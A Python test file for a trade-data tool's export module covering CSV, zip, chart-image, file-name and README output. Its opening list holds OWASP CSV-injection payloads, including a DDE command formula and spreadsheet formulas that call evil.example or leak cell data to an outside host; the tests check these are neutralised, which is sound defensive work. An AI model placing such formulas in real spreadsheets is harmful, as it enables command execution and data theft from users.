import hashlib
import math
import io
import xml.etree.ElementTree as ET
import zipfile

import pandas as pd
import pytest

from tradeviz import charts, export

# OWASP "CSV Injection" payloads plus full-width variants that some spreadsheets also accept.
PAYLOADS = [
    "=1+2", "=cmd|' /C calc'!A0", "+1+2", "-1+2", "@SUM(1+2)", "\t=1+2", "\r=1+2",
    '=HYPERLINK("http://evil.example","x")', "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")",
    "-2+3+cmd|' /C calc'!A0", "＝1+2", "＋1", "－1", "＠SUM(A1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_owasp_payloads(payload):
    assert export.neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Azərbaycan", "1,086", "", "2025 Jan–Jul", "a=b"])
def test_neutralise_leaves_plain_text(text):
    assert export.neutralise(text) == text


def test_to_csv_whole_file():
    frame = pd.DataFrame({
        "record_id": ["f01", "f02"],
        "value": [-76.0, 53.3],
        "rank": [4, 1],
        "period_start": pd.to_datetime(["2025-01-01", None]),
        "publisher": ["Azərbaycan Gömrük Komitəsi", None],
        "title": ['=HYPERLINK("http://evil.example")', 'He said "-5%", then left'],
        "actors": [["Ilham Aliyev", "Xi Jinping"], []],
    })
    expected = (
        # The byte-order mark makes Excel on Windows read the file as UTF-8 (Azərbaycan, not AzÉ™rbaycan).
        "\ufeffrecord_id,value,rank,period_start,publisher,title,actors\r\n"
        'f01,-76,4,2025-01-01,Azərbaycan Gömrük Komitəsi,"\'=HYPERLINK(""http://evil.example"")",Ilham Aliyev; Xi Jinping\r\n'
        'f02,53.3,1,,,"He said ""-5%"", then left",\r\n'
    )
    assert export.to_csv(frame).decode("utf-8") == expected


def test_to_csv_says_when_truncated():
    text = export.to_csv(pd.DataFrame({"a": [1]}), truncated_at=1).decode()
    assert text == "\ufeffa\r\n1\r\n# truncated: only the first 1 rows are included\r\n"


def test_with_labels_places_label_after_code():
    frame = pd.DataFrame({"record_id": ["x"], "flow": ["exports"], "reporter": ["cn_official"], "value": [1.0],
                          "unit": ["usd_million"]})
    labelled = export.with_labels(frame)
    assert list(labelled.columns) == ["record_id", "flow", "flow_label", "reporter", "reporter_label", "value",
                                      "unit", "unit_label"]
    assert labelled.loc[0, "flow_label"] == "Azerbaijan's exports to China"
    assert labelled.loc[0, "unit_label"] == "USD million"


def test_csv_reads_back_in_a_spreadsheet_library_with_numbers_as_numbers():
    frame = export.with_labels(pd.DataFrame({
        "period_label": ["2025 Jan–Mar", "2024"], "value": [1000.0, 53.3], "unit": ["usd_million"] * 2,
        "value_high": [float("inf"), 3744.5], "rank": [4, 1]}))
    back = pd.read_csv(io.BytesIO(export.to_csv(frame)), encoding="utf-8-sig")
    assert back.columns.tolist() == ["period_label", "value", "unit", "unit_label", "value_high", "rank"]
    assert back["period_label"].tolist() == ["2025 Jan–Mar", "2024"]
    assert back["value"].dtype == "float64" and back["value"].tolist() == [1000.0, 53.3]
    # No upper bound is an empty cell, never the text "inf".
    assert math.isnan(back["value_high"][0]) and back["value_high"][1] == 3744.5
    assert back["rank"].dtype == "int64" and back["unit_label"].tolist() == ["USD million"] * 2


def test_file_name():
    assert export.file_name("Trade", "turnover, 2019–2025") == "tradeviz-trade-turnover-2019-2025.csv"
    assert export.file_name("timeline", "") == "tradeviz-timeline-all.csv"
    # The data version says which data the file holds.
    assert export.file_name("Trade", "2024", version="08c6dc74e9") == "tradeviz-trade-2024-v08c6dc74e9.csv"


def test_filtered_zip_has_csv_and_readme():
    payload = export.filtered_zip(b"a\r\n1\r\n", "x.csv", "exports, 2019–2025", "http://h/trade?flow=exports", "abc")
    archive = zipfile.ZipFile(io.BytesIO(payload))
    assert archive.namelist() == ["x.csv", "README.md"]
    readme = archive.read("README.md").decode()
    assert "- Permalink: http://h/trade?flow=exports" in readme and "- Data version: abc" in readme
    assert archive.read("x.csv") == b"a\r\n1\r\n"
    # Same inputs, same bytes.
    assert payload == export.filtered_zip(b"a\r\n1\r\n", "x.csv", "exports, 2019–2025", "http://h/trade?flow=exports", "abc")


def test_dataset_zip(fixture_dataset, fixture_data):
    archive = zipfile.ZipFile(io.BytesIO(export.dataset_zip(fixture_dataset.tables, fixture_data, fixture_dataset.version)))
    names = archive.namelist()
    assert "csv/trade.csv" in names and "parquet/trade.parquet" in names and "README.md" in names
    readme = archive.read("README.md").decode()
    assert f"version {fixture_dataset.version}" in readme
    assert "| qualifier | string | one of exact, about, more_than, less_than |" in readme
    trade_csv = archive.read("csv/trade.csv").decode()
    assert trade_csv.splitlines()[0].startswith("\ufeffrecord_id,reporter,reporter_label,")


@pytest.fixture(scope="module")
def small_chart():
    frame = pd.DataFrame({"year": [2020, 2021], "value": [100.0, 120.0]})
    spec = {"title": {"text": "Turnover", "subtitle": ""}, "data": {"name": "points"}, "mark": "line",
            "encoding": {"x": {"field": "year", "type": "quantitative"},
                         "y": {"field": "value", "type": "quantitative"}}}
    return charts.ChartSpec(spec, {"points": frame}, height=300, name="small", source_note="Source: fixture")


def test_image_spec_adds_source_line_and_data(small_chart):
    spec = export.image_spec(small_chart)
    assert spec["title"] == {"text": ["Turnover"], "subtitle": ["Source: fixture"], "anchor": "start"}
    # Exactly 1920 × 1080, everything fitted inside (padding included).
    assert (spec["width"], spec["height"]) == (1920, 1080)
    assert spec["autosize"] == {"type": "fit", "contains": "padding"}
    assert spec["datasets"] == {"points": [{"year": 2020, "value": 100.0}, {"year": 2021, "value": 120.0}]}
    assert "datasets" not in small_chart.spec  # the chart itself is left as it was
    assert (export.image_spec(small_chart, "4:3")["width"], export.image_spec(small_chart, "4:3")["height"]) == (
        1440, 1080)


def test_a_long_source_line_wraps_inside_the_image(small_chart):
    from dataclasses import replace

    names = ", ".join(f"Source number {i}" for i in range(30))
    spec = export.image_spec(replace(small_chart, source_note=f"Sources: {names}."), "4:3")
    lines = spec["title"]["subtitle"]
    # 1440 px less 2 × 28 padding, at 24 px type (0.56 of it per character): 102 characters a line.
    assert len(lines) > 1 and all(len(line) <= (1440 - 56) // (0.56 * 24) for line in lines)
    assert " ".join(lines) == f"Sources: {names}."


def test_presentation_type_is_at_least_18_pixels(small_chart):
    config = export.image_spec(small_chart)["config"]
    sizes = [config["title"]["fontSize"], config["title"]["subtitleFontSize"], config["axis"]["labelFontSize"],
             config["legend"]["labelFontSize"]]
    assert min(sizes) >= 18


def test_png_and_svg_are_valid(small_chart):
    spec = export.image_spec(small_chart)
    png = export.chart_png(spec)
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    svg = export.chart_svg(spec)
    root = ET.fromstring(svg)
    assert root.tag.endswith("svg")
    assert "Source: fixture" in svg


def test_search_rows_is_plain_text_and_case_insensitive():
    frame = pd.DataFrame({"a": ["Baku", "Beijing", "x.y"], "b": [10, 20, 30]})
    assert export.search_rows(frame, "BAKU")["a"].tolist() == ["Baku"]
    assert export.search_rows(frame, ".")["a"].tolist() == ["x.y"]  # not a regex wildcard
    assert export.search_rows(frame, "20")["a"].tolist() == ["Beijing"]
    assert len(export.search_rows(frame, "  ")) == 3
    # The casefolded text kept from an earlier search finds the same rows.
    kept = export.searchable_text(frame)
    assert kept["a"].tolist() == ["baku", "beijing", "x.y"] and kept["b"].tolist() == ["10", "20", "30"]
    assert export.search_rows(frame, "BAKU", kept)["a"].tolist() == ["Baku"]
    assert export.search_rows(frame, "20", kept)["a"].tolist() == ["Beijing"]


def test_column_guide_lists_every_column():
    from tradeviz import schema

    guide = export.column_guide(schema.POLICY_AREAS)
    expected = pd.DataFrame({
        "column": ["area_id", "name", "description"], "type": ["string"] * 3, "required": [True] * 3,
        "meaning": [""] * 3, "allowed values": [""] * 3,
    })
    pd.testing.assert_frame_equal(guide, expected)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Trade", "trade"),
        ("turnover, 2019–2025", "turnover-2019-2025"),
        ("  --Exports to China!--  ", "exports-to-china"),
        ("Azərbaycan–Çin", "az-rbaycan-in"),  # letters outside a-z are separators, not kept
        ("", "all"),
        ("!!! ---", "all"),
        ("a" * 100, "a" * 80),
    ],
)
def test_slug(text, expected):
    assert export.slug(text) == expected


def test_slug_cut_at_80_never_ends_in_a_hyphen():
    # 79 letters then a separator: cutting at 80 characters would leave "aaa…a-".
    assert export.slug("a" * 79 + " and more") == "a" * 79
    # The description was shortened: a hash of it whole keeps it apart from "a…a c".
    assert export.file_name("trade", "a" * 79 + " b") == "tradeviz-trade-" + "a" * 79 + "-" + hashlib.sha256(
        ("a" * 79 + " b").encode()).hexdigest()[:8] + ".csv"
    assert export.file_name("trade", "a" * 79 + " b") != export.file_name("trade", "a" * 79 + " c")


def test_file_names_of_images_differ_by_size_and_format_however_long_the_view():
    long = "turnover, exports to China and imports from China, 2017–2026, the same months of each year"
    names = {export.file_name("trade", long, extension, "784fcab20c", size=size)
             for extension in ("png", "svg") for size in ("1920x1080", "1440x1080")}
    # Four exports, four names, each ending in its size, the data version and its format; the
    # description cut at 80 characters ("…-months-of-ea") with a hash of it whole.
    assert len(names) == 4
    assert "tradeviz-trade-turnover-exports-to-china-and-imports-from-china-2017-2026-the-same-months-of-ea-" \
           + hashlib.sha256(long.encode()).hexdigest()[:8] + "-1440x1080-v784fcab20c.svg" in names


def test_dataset_readme():
    sources = pd.DataFrame({
        "source_id": ["s1", "s2"],
        "title": ["Customs release", "Seed article"],
        "published_label": ["2025-01-20", "2013"],
        "url": ["https://customs.example/r", None],
    })
    readme = export.dataset_readme("abc123", sources)
    lines = readme.split("\n")
    assert lines[0] == "# tradeviz dataset, version abc123"
    assert readme.endswith("\n") and not readme.endswith("\n\n")
    # One section per table, in the schema's order, each with a header row for its columns.
    assert [line for line in lines if line.startswith("## ")] == [
        "## sources", "## policy_areas", "## trade", "## milestones", "## indicators", "## articles", "## Sources"]
    assert "One row per reported trade figure, as its source states it." in lines
    # Optional columns say so; allowed values follow the description after a semicolon.
    assert "| published | date32[day] (may be empty) | publication day, when known |" in lines
    assert "| reporter | string | who produced the number; one of az_customs, az_ministry, az_official, " \
           "cn_statistics, cn_official, news_agency, press_article, blog |" in lines
    assert "| flow | string | one of turnover, exports, imports, trading_partner_rank, import_source_rank, " \
           "share_of_trade, share_of_imports |" in lines
    assert "| actors | list<item: string> |  |" in lines
    # Sources end the file; a missing address leaves no trailing space.
    assert lines[-3:] == ["- s1: Customs release (2025-01-20) https://customs.example/r",
                          "- s2: Seed article (2013)", ""]


def test_dataset_readme_covers_every_column(fixture_dataset):
    from tradeviz import schema

    readme = export.dataset_readme(fixture_dataset.version, fixture_dataset["sources"])
    rows = [line for line in readme.splitlines() if line.startswith("| ") and not line.startswith("| column")]
    assert len(rows) == sum(len(t.columns) for t in schema.TABLES.values())  # 10+3+19+16+11+12 = 71
    assert len(rows) == 71
    assert "- fx-mirror: China-side mirror table (undated) https://mirror.example/table" in readme
